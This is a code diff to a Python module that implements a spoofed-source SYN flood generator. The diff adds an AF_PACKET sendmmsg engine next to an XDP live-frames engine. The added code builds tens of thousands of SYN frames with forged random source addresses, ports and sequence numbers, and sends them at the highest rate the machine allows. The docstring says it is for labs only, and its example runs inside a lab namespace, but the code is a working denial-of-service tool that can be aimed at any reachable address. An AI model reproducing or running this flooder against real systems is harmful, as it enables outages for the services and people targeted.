@@ -1,36 +1,55 @@
 """A spoofed-source SYN flood at the fastest rate this machine can make, for labs only.
 
-The generator is an XDP program run through BPF_PROG_TEST_RUN in live-frames mode: the
-kernel hands it a fresh copy of one SYN frame per run, the program gives the copy a random
-source address (inside --src-net), source port and sequence number, fixes the checksums,
-and returns XDP_TX, which transmits it out of --iface. IPv4 or IPv6, after --dst (an IPv6
---src-net is /64 or longer: the low 64 bits are drawn at random). No socket, no skb, no userspace copy
-per packet: one syscall sends a chunk of frames. Bounded by --count and --seconds, checked
-between chunks; SIGTERM or SIGINT stops it after the current chunk.
+Two engines send the same frames (random source address inside --src-net, random source
+port, sequence number and IP ID, correct checksums); IPv4 or IPv6 after --dst (an IPv6
+--src-net is /64 or longer: the low 64 bits are drawn at random):
+
+- `live`: an XDP program run through BPF_PROG_TEST_RUN in live-frames mode. The kernel
+  hands it a fresh copy of one SYN frame per run; the program randomises it and returns
+  XDP_TX, which transmits it out of --iface. No socket, no skb, no userspace copy per packet.
+  Some hosts refuse live frames (EPERM), so it is probed first.
+- `packet`: an AF_PACKET socket with PACKET_QDISC_BYPASS sending a pool of 65,536
+  pre-built frames (each with its own random source, port, sequence number and IP ID, and
+  correct checksums) round after round, up to 1,024 per sendmmsg(2) call. It works wherever
+  a packet socket does. A busy receiver pushes back (the socket blocks, or the device says
+  ENOBUFS) and the sender waits instead of failing. Random source bits are drawn in whole
+  bytes, so a --src-net that is not byte-aligned is narrowed to its first byte-aligned
+  sub-network.
+
+`--engine auto` (the default, or $FASTPATH_FLOOD_ENGINE) takes `live` where the probe passes,
+else `packet` with one line saying why. Bounded by --count and --seconds; SIGTERM or SIGINT
+stops it early.
 
     ip netns exec lab-attacker python -m fastpath.xdp.flood --iface eth0 \
         --dst-mac 02:..:02 --dst 10.66.0.2 --dport 8080 --src-net 10.99.0.0/16 \
         --count 20000000 --seconds 10
-    ... --dst fd66::2 --src-net fd99::/64
+    ... --dst fd66::2 --src-net fd99::/64 --engine packet
 
-Prints `ready` once loaded and `sent N seconds S` at the end.
+Prints `engine NAME` (with the reason for a fallback), `ready` once it can send, and
+`sent N seconds S engine NAME` at the end; an error is one `error: ...` line and exit 1.
 """
 
 from __future__ import annotations
 
 import argparse
+import contextlib
+import ctypes
+import errno
 import ipaddress
+import os
+import random
 import signal
 import socket
 import struct
 import sys
 import tempfile
 import time
-from collections.abc import Sequence
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass
 from pathlib import Path
 
 from fastpath.bpf import loader, syscall
-from fastpath.errors import FastpathError
+from fastpath.errors import CapabilityError, FastpathError
 
 PROGRAM = r"""
 #include <uapi/linux/bpf.h>
@@ -142,12 +161,197 @@ def _iface_mac(ifname: str) -> bytes:
     return info[18:24]
 
 
-class Flood:
-    """The loaded generator; run() may be called repeatedly."""
+ENGINES = ("auto", "live", "packet")
+ENGINE_ENV = "FASTPATH_FLOOD_ENGINE"
 
-    def __init__(self, iface: str, dst_mac: str, dst: str, dport: int, src_net: str) -> None:
-        net = ipaddress.ip_network(src_net, strict=True)
-        version = ipaddress.ip_address(dst).version
+# XDP_DROP: the live-frames probe runs the kernel path and sends nothing.
+_DROP_INSNS = bytes.fromhex("b700000001000000" "9500000000000000")  # r0 = XDP_DROP; exit
+_probe_cache: dict[int, str | None] = {}
+
+
+def live_frames_refused(ifindex: int = 1) -> str | None:
+    """Why BPF_PROG_TEST_RUN with live frames fails in this namespace (None: it works).
+
+    Runs a program that drops its one frame, on `ifindex` (loopback by default), so the
+    probe goes through the same kernel checks as a flood and transmits nothing."""
+    if ifindex in _probe_cache:
+        return _probe_cache[ifindex]
+    reason: str | None = None
+    try:
+        fd = syscall.prog_load_xdp(_DROP_INSNS, "fp_live_probe")
+    except syscall.BpfError as exc:
+        reason = f"loading an XDP program failed ({os.strerror(exc.errno)})"
+    else:
+        try:
+            syscall.prog_test_run_live(fd, bytes(64), 1, ifindex)
+        except syscall.BpfError as exc:
+            reason = f"BPF_PROG_TEST_RUN with live frames failed: {os.strerror(exc.errno)}"
+        finally:
+            os.close(fd)
+    _probe_cache[ifindex] = reason
+    return reason
+
+
+def packet_engine_missing() -> str | None:
+    """Why the packet engine cannot run here (None: it can)."""
+    try:
+        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
+    except OSError as exc:
+        return f"no AF_PACKET socket: {exc.strerror or exc}"
+    return None
+
+
+@dataclass(frozen=True)
+class EngineChoice:
+    engine: str
+    note: str  # why this engine: empty when it is the one asked for
+
+
+def choose_engine(requested: str | None = None, ifindex: int = 1) -> EngineChoice:
+    """The engine to use: `requested`, else $FASTPATH_FLOOD_ENGINE, else auto (live where
+    the probe passes, packet otherwise). An engine asked for by name that cannot run here
+    is an error naming the other one."""
+    want = requested or os.environ.get(ENGINE_ENV) or "auto"
+    if want not in ENGINES:
+        raise FastpathError(f"unknown flood engine {want!r}", fix=f"use one of {', '.join(ENGINES)}")
+    if want == "live":
+        why = live_frames_refused(ifindex)
+        if why:
+            raise CapabilityError(f"the live flood engine cannot run here: {why}", fix="use --engine packet")
+        return EngineChoice("live", "")
+    if want == "packet":
+        why = packet_engine_missing()
+        if why:
+            raise CapabilityError(f"the packet flood engine cannot run here: {why}",
+                                  fix="run as root (CAP_NET_RAW), or use --engine live")
+        return EngineChoice("packet", "")
+    why = live_frames_refused(ifindex)
+    if why is None:
+        return EngineChoice("live", "")
+    missing = packet_engine_missing()
+    if missing:
+        raise CapabilityError(f"no flood engine can run here: {why}; {missing}",
+                              fix="run as root (CAP_NET_RAW and CAP_BPF)")
+    return EngineChoice("packet", f"{why}; using the packet engine (AF_PACKET)")
+
+
+def _source_bits(net: ipaddress.IPv4Network | ipaddress.IPv6Network) -> tuple[bytes, int]:
+    """(fixed leading address bytes, number of random trailing bytes) for `net`: whole random
+    bytes only, so a prefix that is not byte-aligned is narrowed to a byte boundary."""
+    width = 4 if net.version == 4 else 16
+    random_bytes = (net.max_prefixlen - net.prefixlen) // 8
+    return net.network_address.packed[: width - random_bytes], random_bytes
+
+
+POOL = 65_536
+
+
+def frame_pool(frame: bytes, net: ipaddress.IPv4Network | ipaddress.IPv6Network, count: int = POOL,
+               rng: random.Random | None = None) -> bytes:
+    """`count` copies of `frame` (from syn_frame), each with a random source (inside `net`,
+    in whole bytes), source port, sequence number and IPv4 ID, and its checksums redone."""
+    rng = rng or random.Random()
+    fixed, nrand = _source_bits(net)
+    ip, out = 14, bytearray()
+    v4 = net.version == 4
+    th = ip + (20 if v4 else 40)
+    src = ip + 12 if v4 else ip + 8
+    tcp = bytearray(frame[th:])
+    for _ in range(count):
+        f = bytearray(frame)
+        f[src:src + len(fixed) + nrand] = fixed + rng.randbytes(nrand)
+        tcp[0:2] = struct.pack("!H", rng.randrange(1024, 65536))
+        tcp[4:8] = rng.randbytes(4)
+        tcp[16:18] = b"\0\0"
+        if v4:
+            f[ip + 4:ip + 6] = rng.randbytes(2)
+            f[ip + 10:ip + 12] = b"\0\0"
+            f[ip + 10:ip + 12] = struct.pack("!H", _csum(bytes(f[ip:th])))
+            pseudo = bytes(f[ip + 12:ip + 20]) + struct.pack("!BBH", 0, 6, len(tcp))
+        else:
+            pseudo = bytes(f[ip + 8:ip + 40]) + struct.pack("!IxxxB", len(tcp), 6)
+        tcp[16:18] = struct.pack("!H", _csum(pseudo + bytes(tcp)))
+        f[th:] = tcp
+        out += f
+    return bytes(out)
+
+
+class _IoVec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+
+
+class _MsgHdr(ctypes.Structure):
+    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.c_void_p),
+                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
+                ("flags", ctypes.c_int)]
+
+
+class _MMsgHdr(ctypes.Structure):
+    _fields_ = [("hdr", _MsgHdr), ("len", ctypes.c_uint)]
+
+
+_libc = ctypes.CDLL(None, use_errno=True)
+SOL_PACKET, PACKET_QDISC_BYPASS, SO_SNDBUFFORCE = 263, 20, 32
+BATCH = 1024
+
+
+class _PacketSender:
+    """The pool on a bound AF_PACKET socket, sent with sendmmsg(2) in batches."""
+
+    def __init__(self, iface: str, pool: bytes, frame_len: int) -> None:
+        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
+        try:
+            self.sock.bind((iface, 0))
+            with contextlib.suppress(OSError):
+                self.sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
+            try:  # room for the frames a busy peer holds (root may exceed wmem_max)
+                self.sock.setsockopt(socket.SOL_SOCKET, SO_SNDBUFFORCE, 8 << 20)
+            except OSError:
+                self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
+        except OSError:
+            self.sock.close()
+            raise
+        self.n = len(pool) // frame_len
+        self._buf = ctypes.create_string_buffer(pool, len(pool))
+        base = ctypes.addressof(self._buf)
+        self._iov = (_IoVec * self.n)(*[_IoVec(base + i * frame_len, frame_len) for i in range(self.n)])
+        iov0 = ctypes.addressof(self._iov)
+        size = ctypes.sizeof(_IoVec)
+        self._msgs = (_MMsgHdr * self.n)(*[_MMsgHdr(_MsgHdr(iov=iov0 + i * size, iovlen=1))
+                                            for i in range(self.n)])
+        self._next = 0
+
+    def send(self, frames: int, deadline: float, stop: Callable[[], bool]) -> int:
+        fd, sent = self.sock.fileno(), 0
+        msgs = ctypes.addressof(self._msgs)
+        size = ctypes.sizeof(_MMsgHdr)
+        while sent < frames and not stop() and time.monotonic() < deadline:
+            n = min(BATCH, frames - sent, self.n - self._next)
+            got = _libc.sendmmsg(fd, ctypes.c_void_p(msgs + self._next * size), n, 0)
+            if got < 0:
+                err = ctypes.get_errno()
+                if err not in (errno.ENOBUFS, errno.EAGAIN, errno.EINTR):
+                    raise OSError(err, f"sendmmsg on the packet socket: {os.strerror(err)}")
+                time.sleep(0.0002)  # the device is full: let the receiver catch up
+                continue
+            sent += got
+            self._next = (self._next + got) % self.n
+        return sent
+
+    def close(self) -> None:
+        self.sock.close()
+
+
+class Flood:
+    """A loaded flood engine; run() may be called repeatedly."""
+
+    def __init__(self, iface: str, dst_mac: str, dst: str, dport: int, src_net: str,
+                 engine: str | None = None) -> None:
+        try:
+            net = ipaddress.ip_network(src_net, strict=True)
+            version = ipaddress.ip_address(dst).version
+        except ValueError as exc:
+            raise FastpathError(f"bad address: {exc}") from None
         if net.version != version:
             raise FastpathError(f"--src-net {src_net} and --dst {dst} are not of one IP version")
         if net.prefixlen < (8 if version == 4 else 64):
@@ -156,8 +360,21 @@ class Flood:
             self.ifindex = socket.if_nametoindex(iface)
         except OSError:
             raise FastpathError(f"unknown interface {iface!r}") from None
+        self.iface = iface
+        choice = choose_engine(engine, self.ifindex)
+        self.engine, self.note = choice.engine, choice.note
         self.frame = syn_frame(_iface_mac(iface), _mac(dst_mac), str(net.network_address), dst, dport)
         self._dir = tempfile.TemporaryDirectory(prefix="fastpath-flood-")
+        self.prog: loader.LoadedProgram | None = None
+        self._sender: _PacketSender | None = None
+        if self.engine == "packet":
+            pool = frame_pool(self.frame, net)
+            try:
+                self._sender = _PacketSender(iface, pool, len(self.frame))
+            except OSError as exc:
+                raise FastpathError(f"cannot open a packet socket on {iface}: {exc.strerror or exc}",
+                                    fix="run as root (CAP_NET_RAW)") from None
+            return
         Path(self._dir.name, "syn_flood.c").write_text(PROGRAM)
         spec = loader.ProgramSpec(name="syn_flood", entry="syn_flood", maps=(),
                                   directory=Path(self._dir.name))
@@ -171,12 +388,26 @@ class Flood:
                        "SRC_BASE3": f"{base & word:#x}U", "SRC_MASK3": f"{mask & word:#x}U"}
         self.prog = loader.load(spec, defines)
 
-    def run(self, frames: int) -> int:
-        """Send `frames` frames; returns the kernel's mean ns per frame."""
-        return syscall.prog_test_run_live(self.prog.prog_fd, self.frame, frames, self.ifindex)
+    def run(self, frames: int, seconds: float = 120.0, chunk: int = 100_000,
+            stop: Callable[[], bool] = lambda: False) -> int:
+        """Send up to `frames` frames within `seconds` (checking `stop` between chunks);
+        returns how many were sent."""
+        if self._sender is not None:
+            return self._sender.send(frames, time.monotonic() + seconds, stop)
+        assert self.prog is not None
+        sent = 0
+        deadline = time.monotonic() + seconds
+        while sent < frames and time.monotonic() < deadline and not stop():
+            n = min(chunk, frames - sent)
+            syscall.prog_test_run_live(self.prog.prog_fd, self.frame, n, self.ifindex)
+            sent += n
+        return sent
 
     def close(self) -> None:
-        self.prog.close()
+        if self.prog is not None:
+            self.prog.close()
+        if self._sender is not None:
+            self._sender.close()
         self._dir.cleanup()
 
 
@@ -190,30 +421,32 @@ def main(argv: Sequence[str] | None = None) -> int:
     p.add_argument("--src-net", default="10.99.0.0/16", help="spoofed sources are drawn from here")
     p.add_argument("--count", type=int, default=10_000_000, help="stop after this many frames")
     p.add_argument("--seconds", type=float, default=10.0, help="stop after this long (max 120)")
-    p.add_argument("--chunk", type=int, default=100_000, help="frames per syscall")
+    p.add_argument("--engine", choices=ENGINES, default=None,
+                   help=f"live, packet or auto (default: ${ENGINE_ENV}, else auto)")
     args = p.parse_args(argv)
-    # SIGTERM would interrupt a chunk half-way with EINTR, and the kernel does not say how
-    # many frames went out; block it and look for it between chunks instead.
+    # SIGTERM would interrupt a live chunk half-way with EINTR, and the kernel does not say
+    # how many frames went out; block it and look for it between chunks instead.
     signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT})
+
+    def stopped() -> bool:
+        return bool(signal.sigpending() & {signal.SIGTERM, signal.SIGINT})
+
     try:
-        flood = Flood(args.iface, args.dst_mac, args.dst, args.dport, args.src_net)
+        flood = Flood(args.iface, args.dst_mac, args.dst, args.dport, args.src_net, args.engine)
     except FastpathError as exc:
-        print(f"error: {exc}", file=sys.stderr)
+        print(f"error: {exc}", file=sys.stderr, flush=True)
         return 1
+    print(f"engine {flood.engine}" + (f" ({flood.note})" if flood.note else ""), flush=True)
     print("ready", flush=True)
-    sent = 0
     t0 = time.monotonic()
-    deadline = t0 + min(args.seconds, 120.0)
     try:
-        while sent < args.count and time.monotonic() < deadline:
-            if signal.sigpending() & {signal.SIGTERM, signal.SIGINT}:
-                break
-            n = min(args.chunk, args.count - sent)
-            flood.run(n)
-            sent += n
+        sent = flood.run(args.count, min(args.seconds, 120.0), stop=stopped)
+    except (FastpathError, OSError) as exc:
+        print(f"error: {exc}", file=sys.stderr, flush=True)
+        return 1
     finally:
         flood.close()
-    print(f"sent {sent} seconds {time.monotonic() - t0:.3f}", flush=True)
+    print(f"sent {sent} seconds {time.monotonic() - t0:.3f} engine {flood.engine}", flush=True)
     return 0
 
 
